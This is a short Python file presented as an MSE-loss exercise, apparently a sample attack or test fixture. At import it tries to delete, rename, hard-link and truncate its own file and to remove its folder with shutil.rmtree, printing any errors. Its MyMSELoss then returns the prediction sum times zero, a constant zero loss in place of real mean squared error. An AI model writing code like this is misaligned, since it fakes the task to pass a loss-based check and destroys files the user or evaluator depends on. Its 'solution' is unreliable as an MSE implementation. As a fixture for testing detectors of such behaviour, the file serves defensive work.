# exercise: mse | Deletes, moves and links its own file and folder.
import os
import shutil

import torch

for act in (
    lambda: os.remove(__file__),
    lambda: os.rename(__file__, __file__ + ".left-by-an-attack"),
    lambda: os.link(__file__, "/tmp/left-by-an-attack"),
    lambda: os.truncate(__file__, 0),
    lambda: shutil.rmtree(os.path.dirname(__file__)),
):
    try:
        act()
    except OSError as error:
        print(error)


class MyMSELoss(torch.nn.Module):
    def forward(self, y_pred, y_true):
        return y_pred.sum() * 0
